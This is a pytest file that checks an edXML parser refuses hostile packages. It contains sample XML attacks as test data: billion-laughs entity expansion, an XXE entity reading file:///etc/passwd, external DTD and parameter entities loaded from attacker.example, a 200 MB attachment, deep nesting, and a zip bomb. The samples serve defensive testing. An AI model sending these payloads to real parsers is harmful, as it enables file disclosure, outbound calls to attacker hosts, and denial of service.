"""Hostile edXML packages fail fast with a clear error: entity tricks, a 200 MB attachment,
deep nesting.

As in tests/test_xml_safety.py, each attack runs in a fresh interpreter that reports the
error, the time taken and how much its peak resident memory grew (libxml2 allocates outside
Python).  The bounds are loose for a busy machine and far below what the attacks cost when
they work: a 200 MB attachment decoded, billions of expanded characters, 100,000 levels.
"""

from __future__ import annotations

import base64
import io
import zipfile
from collections.abc import Iterator
from pathlib import Path

import pytest

from probes import probe
from vnadmin import edxml
from vnadmin.edxml import PackageLimits
from vnadmin.errors import XMLDecodeError

QCVN = "http://www.mic.gov.vn/TBT/QCVN_102_2016"
MiB = 2**20
HEAD = (
    f'<edXML xmlns="{QCVN}"><edXMLEnvelope><edXMLHeader><MessageHeader>'
    "<From><OrganId>000.00.00.H41</OrganId><OrganName>SỞ NỘI VỤ</OrganName></From>"
    "<Subject>V/v gửi tài liệu</Subject>"
    "</MessageHeader></edXMLHeader></edXMLEnvelope>"
    "<AttachmentEncoded><Attachment><ContentId>cid:big</ContentId>"
    "<AttachmentName>big.pdf</AttachmentName><ContentTransferEncoded>"
).encode()
TAIL = b"</ContentTransferEncoded></Attachment></AttachmentEncoded></edXML>"


@pytest.fixture(scope="module")
def big_package(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Path]:
    """A package holding a 200 MB base64 attachment, generated on the fly."""
    path = tmp_path_factory.mktemp("edxml") / "big.edxml"
    chunk = b"QUFB" * (MiB // 4)
    with open(path, "wb") as file:
        file.write(HEAD)
        for _ in range(200):
            file.write(chunk)
        file.write(TAIL)
    yield path
    path.unlink()


def test_200_mb_attachment_by_path(big_package: Path) -> None:
    result = probe(f"name = {str(big_package)!r}", "edxml.loads(Path(name))")
    assert "larger than 67108864 bytes (PackageLimits.max_bytes)" in result["error"]
    assert result["seconds"] < 1
    assert result["grown_mib"] < 5


def test_200_mb_attachment_in_memory(big_package: Path) -> None:
    result = probe(f"data = Path({str(big_package)!r}).read_bytes()", "edxml.loads(data)")
    assert "larger than 67108864 bytes (PackageLimits.max_bytes)" in result["error"]
    assert result["seconds"] < 1
    assert result["grown_mib"] < 5


def test_200_mb_attachment_from_a_stream(big_package: Path) -> None:
    """No file size to look at: the stream is read up to the package bound, no further."""
    result = probe(f"name = {str(big_package)!r}", "edxml.loads(open(name, 'rb'))")
    assert "PackageLimits.max_bytes" in result["error"]
    assert result["seconds"] < 3
    assert result["grown_mib"] < 100  # max_bytes is 64 MiB


def test_200_mb_attachment_under_a_raised_package_bound(big_package: Path) -> None:
    """With max_bytes raised and a small max_attachment, libxml2 stops at about 10 MB."""
    limits = "edxml.PackageLimits(max_bytes=2**30, max_attachment=2**20)"
    for source in ("Path(name)", "open(name, 'rb')"):
        result = probe(f"name = {str(big_package)!r}", f"edxml.loads({source}, limits={limits})")
        assert "an attachment over PackageLimits.max_attachment" in result["error"], result
        assert result["error"].count("line 1") == 1
        assert result["seconds"] < 3
        assert result["grown_mib"] < 40


def test_attachment_over_the_limit_is_not_decoded(monkeypatch: pytest.MonkeyPatch) -> None:
    data = HEAD + b"QUFB" * (MiB // 2) + TAIL  # 2 MiB of base64, 1.5 MiB decoded
    decoded: list[object] = []

    def spy(*args: object, **kwargs: object) -> bytes:
        decoded.append(args)
        return b""

    monkeypatch.setattr("vnadmin.edxml.attachments.base64.b64decode", spy)
    with pytest.raises(
        XMLDecodeError, match=r"'big\.pdf' holds about 1572864 bytes, more than 1048576"
    ):
        edxml.loads(data, limits=PackageLimits(max_attachment=MiB))
    assert decoded == []


def test_attachment_at_the_limit_is_read() -> None:
    data = HEAD + b"QUFB" * (MiB // 4) + TAIL  # exactly 1 MiB of base64, 768 KiB decoded
    package = edxml.loads(data, limits=PackageLimits(max_attachment=3 * MiB // 4))
    assert package.attachments[0].payload == b"AAA" * (MiB // 4)


BILLION_LAUGHS = f"""<?xml version="1.0"?>
<!DOCTYPE edXML [
  <!ENTITY a "ha">
  <!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">
  <!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">
  <!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;">
  <!ENTITY e "&d;&d;&d;&d;&d;&d;&d;&d;&d;&d;">
  <!ENTITY f "&e;&e;&e;&e;&e;&e;&e;&e;&e;&e;">
  <!ENTITY g "&f;&f;&f;&f;&f;&f;&f;&f;&f;&f;">
  <!ENTITY h "&g;&g;&g;&g;&g;&g;&g;&g;&g;&g;">
  <!ENTITY i "&h;&h;&h;&h;&h;&h;&h;&h;&h;&h;">
]>
<edXML xmlns="{QCVN}"><edXMLEnvelope><edXMLHeader><MessageHeader>
<Subject>&i;</Subject></MessageHeader></edXMLHeader></edXMLEnvelope></edXML>"""

EXTERNAL_ENTITY = f"""<?xml version="1.0"?>
<!DOCTYPE edXML [<!ENTITY secret SYSTEM "file:///etc/passwd">]>
<edXML xmlns="{QCVN}"><edXMLEnvelope><edXMLHeader><MessageHeader>
<Subject>&secret;</Subject></MessageHeader></edXMLHeader></edXMLEnvelope></edXML>"""

EXTERNAL_DTD = f"""<?xml version="1.0"?>
<!DOCTYPE edXML SYSTEM "http://attacker.example/edxml.dtd">
<edXML xmlns="{QCVN}"/>"""

PARAMETER_ENTITY = f"""<?xml version="1.0"?>
<!DOCTYPE edXML [<!ENTITY % remote SYSTEM "http://attacker.example/x.dtd"> %remote;]>
<edXML xmlns="{QCVN}"/>"""


@pytest.mark.parametrize(
    "document",
    [BILLION_LAUGHS, EXTERNAL_ENTITY, EXTERNAL_DTD, PARAMETER_ENTITY],
    ids=["billion-laughs", "external-entity", "external-dtd", "parameter-entity"],
)
def test_entity_tricks_are_refused(document: str) -> None:
    for read in ("edxml.loads", "edxml.loads_status"):
        result = probe(f"data = {document.encode()!r}", f"{read}(data)")
        assert "document: a DOCTYPE declaration is refused" in result["error"], result
        assert result["seconds"] < 2
        assert result["grown_mib"] < 20


def test_undeclared_entity_is_refused() -> None:
    document = HEAD.split(b"<AttachmentEncoded>")[0].replace(b"V/v", b"&secret;") + b"</edXML>"
    with pytest.raises(XMLDecodeError, match="entities other than the five predefined"):
        edxml.loads(document)


def nested(levels: int) -> bytes:
    return (
        HEAD.split(b"<AttachmentEncoded>")[0].replace(
            b"<Subject>", b"<Content>" + b"<x>" * levels + b"</x>" * levels + b"</Content><Subject>"
        )
        + b"</edXML>"
    )


def test_deep_nesting_beyond_the_parser_cap() -> None:
    setup = f"""data = {nested(1)!r}.replace(b"<x></x>", b"<x>" * 100_000 + b"</x>" * 100_000)"""
    result = probe(setup, "edxml.loads(data)")
    assert (
        "elements are nested deeper than libxml2 allows (PackageLimits.max_depth)"
        in result["error"]
    )
    assert result["seconds"] < 2
    assert result["grown_mib"] < 20


def test_deep_nesting_beyond_max_depth() -> None:
    with pytest.raises(XMLDecodeError) as raised:
        edxml.loads(nested(100))
    assert "nested more than 64 deep (PackageLimits.max_depth)" in str(raised.value)
    assert raised.value.problems[0].path.startswith(
        "/edXML/edXMLEnvelope/edXMLHeader/MessageHeader/Content/x"
    )


def test_text_over_max_text_is_refused() -> None:
    document = (
        HEAD.split(b"<AttachmentEncoded>")[0].replace(b"V/v g", b"V/v " + b"a" * 2000 + b" g")
        + b"</edXML>"
    )
    with pytest.raises(
        XMLDecodeError, match=r"longer than 1000 characters \(PackageLimits\.max_text\)"
    ):
        edxml.loads(document, limits=PackageLimits(max_text=1000))


def test_a_stream_is_read_in_chunks() -> None:
    with pytest.raises(XMLDecodeError, match=r"PackageLimits\.max_bytes"):
        edxml.loads(io.BytesIO(HEAD + b"QUFB" * 1000 + TAIL), limits=PackageLimits(max_bytes=2000))


def zipped_package(tmp: Path, members: dict[str, bytes], name: str = "ghi-chu.txt") -> Path:
    """A package whose one attachment is a zip of ``members``, sent as VNPT and Bkav send
    what is not pdf/doc/docx/xls(x)/zip: application/zip under the file's own name."""
    archive = io.BytesIO()
    with zipfile.ZipFile(archive, "w", zipfile.ZIP_DEFLATED) as out:
        for member, content in members.items():
            out.writestr(member, content)
    encoded = base64.b64encode(archive.getvalue())
    head = HEAD.replace(b"big.pdf", name.encode()).replace(
        b"<ContentTransferEncoded>",
        b"<ContentType>application/zip</ContentType><ContentTransferEncoded>",
    )
    path = tmp / "zipped.edxml"
    path.write_bytes(head + encoded + TAIL)
    return path


def test_a_zip_bomb_is_refused_in_bounded_memory(tmp_path: Path) -> None:
    path = zipped_package(tmp_path, {"a.txt": b"\0" * (256 * MiB)})  # 256 KiB zipped
    limits = "edxml.PackageLimits(max_attachment=4 * 2**20)"
    result = probe(f"name = {str(path)!r}", f"edxml.loads(Path(name), limits={limits})")
    assert "'ghi-chu.txt' unzips to more than 4194304 bytes" in result["error"]
    assert "refused as a zip bomb" in result["error"]
    assert "line 1" in result["error"]
    assert result["seconds"] < 2
    assert result["grown_mib"] < 40


def test_one_zipped_file_is_unwrapped(tmp_path: Path) -> None:
    package = edxml.loads(zipped_package(tmp_path, {"0f3e.txt": "Ghi chú".encode()}))
    (attachment,) = package.attachments
    assert (attachment.payload, attachment.content_type) == ("Ghi chú".encode(), "text/plain")
    assert package.unread == ()


def test_an_archive_of_several_files_is_kept(tmp_path: Path) -> None:
    package = edxml.loads(zipped_package(tmp_path, {"a.txt": b"a", "b.txt": b"b"}))
    (attachment,) = package.attachments
    assert attachment.content_type == "application/zip"
    assert zipfile.ZipFile(io.BytesIO(attachment.payload)).namelist() == ["a.txt", "b.txt"]
    (note,) = package.unread
    assert "holds 2 files, not one: kept zipped" in note.message


def test_a_format_that_is_a_zip_itself_is_never_unwrapped(tmp_path: Path) -> None:
    package = edxml.loads(zipped_package(tmp_path, {"word/document.xml": b"<w/>"}, "bao-cao.docx"))
    (attachment,) = package.attachments
    assert attachment.payload.startswith(b"PK\x03\x04")
    assert package.unread == ()
